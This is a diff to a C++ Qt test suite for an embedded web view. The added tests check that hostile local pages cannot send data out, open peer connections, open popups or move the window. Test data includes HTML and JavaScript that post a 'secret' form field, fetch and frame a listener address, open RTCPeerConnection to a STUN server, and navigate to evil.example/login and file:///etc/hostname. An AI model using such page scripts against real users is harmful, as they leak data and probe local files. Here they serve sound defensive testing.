@@ -3,11 +3,13 @@
 // get the software scene graph for them.
 #include <QApplication>
 #include <QQuickWindow>
+#include <QUdpSocket>
 #include <QWebEnginePage>
 #include <QWebEngineProfile>
 
 #include "fakes/support.h"
 
+#include "webview/local_fence.h"
 #include "webview/local_pages.h"
 #include "webview/navigation_rule.h"
 #include "webview/scene_graph.h"
@@ -17,6 +19,7 @@ using namespace qvestra;
 using namespace qvestra::webview;
 using namespace qvestra::testing;
 using namespace Qt::StringLiterals;
+using namespace std::string_literals;
 Q_DECLARE_METATYPE(qvestra::webview::Navigation)
 
 namespace {
@@ -28,6 +31,35 @@ QStringList browser;
 
 // The program's views, made once in main: the engine's profile is one for all.
 WebEngineViews* views = nullptr;
+
+// A view of the program's showing a page written to a local file, once it
+// has loaded.
+struct LocalView {
+    QTemporaryDir dir;
+    TwipsLayout layout{TwipScale(15)};
+    std::unique_ptr<WebEngineView> view{
+        static_cast<WebEngineView*>(views->Factory()(nullptr, layout))};
+
+    explicit LocalView(const std::string& page) {
+        WriteFile(dir.path().toStdString() + "/A-12.html", page);
+        view->resize(400, 300);
+        view->show();
+        QSignalSpy loaded(view.get(), &QWebEngineView::loadFinished);
+        view->Navigate("file://" + dir.path() + "/A-12.html");
+        QVERIFY(loaded.wait(20000) && loaded.first().first().toBool());
+    }
+    void Run(const QString& script) { view->page()->runJavaScript(script); }
+};
+
+// What a hostile local page tries: an image, a frame, a connection and a
+// form that send to the listener; the title says when it has tried.
+std::string Attempts(const std::string& listener) {
+    return "<img src=\"" + listener + "/img\"><iframe src=\"" + listener +
+           "/frame\"></iframe><form id=\"f\" action=\"" + listener +
+           "/form\"><input name=\"field\" value=\"secret\"></form><script>fetch(\"" + listener +
+           "/fetch\").catch(() => {}); document.getElementById(\"f\").submit(); "
+           "setTimeout(() => document.title = \"tried\", 300);</script>";
+}
 
 }  // namespace
 
@@ -111,10 +143,127 @@ class TestWebViews : public QObject {
     void mainFrame() {
         const auto [url, navigation] = Fetch<QString, Navigation>({"url", "navigation"});
         QCOMPARE(MainFrameNavigation(QUrl(url), kService), navigation);
-        QCOMPARE(PopupNavigation(QUrl(url)),
+        QCOMPARE(PopupNavigation(QUrl(url), true),
                  navigation != Navigation::kRefuse && url.startsWith("http")
                      ? Navigation::kDesktopBrowser
                      : Navigation::kRefuse);
+        QCOMPARE(PopupNavigation(QUrl(url), false), Navigation::kRefuse);
+    }
+
+    void browserHandOffsKeepTheirInterval() {
+        BrowserHandOff handOff;
+        const std::chrono::steady_clock::time_point start{std::chrono::hours(1)};
+        QVERIFY(handOff.Allow(start));
+        QVERIFY(!handOff.Allow(start + BrowserHandOff::kInterval - std::chrono::milliseconds(1)));
+        QVERIFY(handOff.Allow(start + BrowserHandOff::kInterval));
+        QVERIFY(!handOff.Allow(start + BrowserHandOff::kInterval + std::chrono::milliseconds(1)));
+    }
+
+    // A local page's requests stay on the local scheme and data:, whichever
+    // address tells that the request comes from a local page; the window's
+    // own navigation was judged by the navigation rule already.
+    void localPagesRequestNothingElse_data() {
+        Columns<QString, QString, QString, bool, QString, bool>(
+            {"page", "firstParty", "initiator", "mainFrame", "request", "may"});
+        const QString local = "qvestra-local://page0/A-12.html";
+        const QString service = "http://svc.test/q_vestra/execute.asp";
+        Row("a local page's logo", local, local, "qvestra-local://page0", false,
+            "qvestra-local://page0/images/LOGO_Movei.gif", true);
+        Row("a local page's data: image", local, local, "qvestra-local://page0", false,
+            "data:image/gif;base64,R0lGOD", true);
+        Row("a local page's image elsewhere", local, local, "qvestra-local://page0", false,
+            "http://127.0.0.1:8081/beacon", false);
+        Row("a frame inside a local page", local, local, "null", false, "http://svc.test/", false);
+        Row("a local page known by its initiator alone", service, service, "qvestra-local://page0",
+            false, "http://svc.test/", false);
+        Row("a local page going to the service", local, "http://svc.test/", "qvestra-local://page0",
+            true, service, true);
+        Row("a service page's image", service, service, "http://svc.test", false,
+            "http://svc.test/q_Vestra/images/Logo_Movei.gif", true);
+    }
+    void localPagesRequestNothingElse() {
+        const auto [page, firstParty, initiator, mainFrame, request, may] =
+            Fetch<QString, QString, QString, bool, QString, bool>(
+                {"page", "firstParty", "initiator", "mainFrame", "request", "may"});
+        QCOMPARE(
+            MayRequest({QUrl(page), QUrl(firstParty), QUrl(initiator), mainFrame}, QUrl(request)),
+            may);
+    }
+
+    // The policy comes before every byte of the page; only a plain document
+    // type line at the start is repeated in front of it.
+    void thePolicyComesFirst_data() {
+        Columns<QByteArray, QByteArray>({"page", "before"});
+        Row("a document type", QByteArray("<!DOCTYPE html>\r\n<html>"),
+            QByteArray("<!DOCTYPE html>"));
+        Row("an old document type",
+            QByteArray("\r\n<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">"),
+            QByteArray("<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">"));
+        Row("no document type", QByteArray("<html>"), QByteArray());
+        Row("a vertical tab first", QByteArray("\v<!DOCTYPE html>"), QByteArray());
+        Row("an escape in the type", QByteArray("<!DOCTYPE html \x1b$B>"), QByteArray());
+        Row("a tag in the type", QByteArray("<!DOCTYPE html <b>"), QByteArray());
+    }
+    void thePolicyComesFirst() {
+        const auto [page, before] = Fetch<QByteArray, QByteArray>({"page", "before"});
+        const QByteArray served = WithLocalPolicy(page);
+        QVERIFY(served.endsWith(page));
+        QCOMPARE(served.indexOf("<meta http-equiv=\"Content-Security-Policy\""), before.size());
+        QVERIFY(served.startsWith(before));
+    }
+
+    // In the real engine, pages that try to keep the policy from being read
+    // reach no other program and send no form out.
+    void hostilePagesReachNothing_data() {
+        Columns<std::string>({"start"});
+        Row("a plain page", "<!DOCTYPE html><html><head></head><body>"s);
+        Row("no document type", ""s);
+        Row("a vertical tab before the document type", "\v<!DOCTYPE html><html><body>"s);
+        Row("a document type inside a comment", "<!--<!DOCTYPE html>--><html><body>"s);
+        Row("a charset switch inside the document type",
+            "<!DOCTYPE html \x1b$B>\x1b(B<html><head><meta charset=\"ISO-2022-JP\"></head><body>"s);
+        Row("the page's own weaker policy",
+            "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" "
+            "content=\"default-src * 'unsafe-inline'; form-action *\"></head><body>"s);
+    }
+    void hostilePagesReachNothing() {
+        const auto [start] = Fetch<std::string>({"start"});
+        ScriptedServer listener(OkReply("GIF89a"), 4);
+        browser.clear();
+        LocalView local(start + Attempts(listener.Address("")));
+        QTRY_COMPARE_WITH_TIMEOUT(local.view->title(), QStringLiteral("tried"), 10000);
+        QCOMPARE(listener.Connections(), 0);
+        QVERIFY2(browser.filter("form").isEmpty(), qPrintable(browser.join(u' ')));
+    }
+
+    // A peer connection would leave by UDP: a local page, its frames and a
+    // frame's window it made itself have none.
+    void localPagesHaveNoPeerConnections() {
+        QUdpSocket stun;
+        QVERIFY(stun.bind(QHostAddress::LocalHost));
+        const QString server = QStringLiteral("stun:127.0.0.1:%1").arg(stun.localPort());
+        LocalView local(
+            "<!DOCTYPE html><iframe id=\"f\"></iframe><iframe srcdoc=\"x\"></iframe><iframe "
+            "onload=\"window.early = typeof this.contentWindow.RTCPeerConnection\"></iframe>"
+            "<script>document.title = early + ' ' + typeof frames[2].RTCPeerConnection;</script>");
+        QCOMPARE(local.view->title(), "undefined undefined");
+        local.Run(QStringLiteral(R"(
+            const made = document.body.appendChild(document.createElement("iframe")).contentWindow;
+            const inner = made.document.body.appendChild(made.document.createElement("iframe"));
+            document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>");
+            const tries = [window, document.getElementById("f").contentWindow,
+                           window.frames[1], made, inner.contentWindow, frames[frames.length - 1]];
+            document.title = tries.map(w => {
+                try {
+                    const c = new w.RTCPeerConnection({iceServers: [{urls: "%1"}]});
+                    c.createDataChannel("d");
+                    c.createOffer().then(o => c.setLocalDescription(o));
+                    return "made";
+                } catch (e) { return "none"; }
+            }).join(" ");)")
+                      .arg(server));
+        QTRY_VERIFY_WITH_TIMEOUT(local.view->title().startsWith("none none none"), 10000);
+        QVERIFY2(!stun.waitForReadyRead(1500), qPrintable(local.view->title()));
     }
 
     // The window stays where it is when a page in the data folder tries to
@@ -122,33 +271,40 @@ class TestWebViews : public QObject {
     // what a page asks of the desktop is refused at once. What a planted
     // script in such a page can reach is tried by the offline end-to-end run.
     void aPageCannotTakeTheWindowElsewhere() {
-        QTemporaryDir dir;
-        WriteFile(dir.path().toStdString() + "/A-12.html",
-                  "<!DOCTYPE html><html><body><p>menu</p></body></html>");
-        TwipsLayout layout{TwipScale(15)};
-        const std::unique_ptr<WebEngineView> view(
-            static_cast<WebEngineView*>(views->Factory()(nullptr, layout)));
-        view->resize(400, 300);
-        view->show();
-        QSignalSpy loaded(view.get(), &QWebEngineView::loadFinished);
-        view->Navigate("file://" + dir.path() + "/A-12.html");
-        QVERIFY(loaded.wait(20000) && loaded.first().first().toBool());
-        const QUrl start = view->url();
-        const auto run = [&view](const QString& script) { view->page()->runJavaScript(script); };
-        run("location.href = 'http://evil.example/login'");
+        browser.clear();
+        LocalView local(
+            "<!DOCTYPE html><button style=\"position:fixed;inset:0\" "
+            "onclick=\"window.open('http://clicked.example/')\">menu</button>");
+        QWebEngineView& view = *local.view;
+        const QUrl start = view.url();
+        local.Run("location.href = 'http://evil.example/login'");
         QTRY_COMPARE_WITH_TIMEOUT(browser, QStringList{"http://evil.example/login"}, 10000);
-        run("window.open('http://popup.example/'); window.open('file:///etc/hostname');");
-        QTRY_COMPARE_WITH_TIMEOUT(browser.size(), 2, 10000);
-        QCOMPARE(browser.last(), QStringLiteral("http://popup.example/"));
-        run("location.href = 'file:///etc/hostname'");
-        run("location.href = 'data:text/html,<title>moved</title>'");
-        run("Notification.requestPermission().then(p => document.title = 'notifications ' + p);");
-        QTRY_COMPARE_WITH_TIMEOUT(view->title(), QStringLiteral("notifications denied"), 10000);
-        QCOMPARE(view->url(), start);
-        QCOMPARE(browser.size(), 2);
-        // A page number beyond those handed out (this one is the only one)
-        // names nothing.
-        view->load(QUrl(start.toString().replace(u"//page0/"_s, u"//page1/"_s)));
+        // Without a click: popups go nowhere, a loop of address changes
+        // reaches the browser once an interval at most.
+        local.Run(
+            "for (let i = 0; i < 20; ++i) window.open('http://popup.example/' + i);"
+            "window.open('file:///etc/hostname'); let n = 0; const loop = setInterval(() => {"
+            "  location.href = 'http://flood.example/' + n;"
+            "  if (++n == 200) { clearInterval(loop); document.title = 'flooded'; } }, 5);");
+        QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("flooded"), 10000);
+        QVERIFY2(browser.filter("popup").isEmpty() && browser.size() <= 2,
+                 qPrintable(browser.join(u' ')));
+        QVERIFY(QTest::qWaitForWindowExposed(&view));
+        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(200, 150));
+        QTRY_COMPARE_WITH_TIMEOUT(browser.last(), QStringLiteral("http://clicked.example/"), 10000);
+        const qsizetype handedOver = browser.size();
+        local.Run("location.href = 'file:///etc/hostname'");
+        local.Run("location.href = 'data:text/html,<title>moved</title>'");
+        local.Run(
+            "Notification.requestPermission().then(p => document.title = 'notifications ' + p);");
+        QTRY_COMPARE_WITH_TIMEOUT(view.title(), QStringLiteral("notifications denied"), 10000);
+        QCOMPARE(view.url(), start);
+        QCOMPARE(browser.size(), handedOver);
+        // A page number beyond those handed out names nothing.
+        QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
+        QUrl unknown = start;
+        unknown.setHost(u"page999"_s);
+        view.load(unknown);
         QVERIFY(loaded.wait(20000) && !loaded.last().first().toBool());
     }
 };
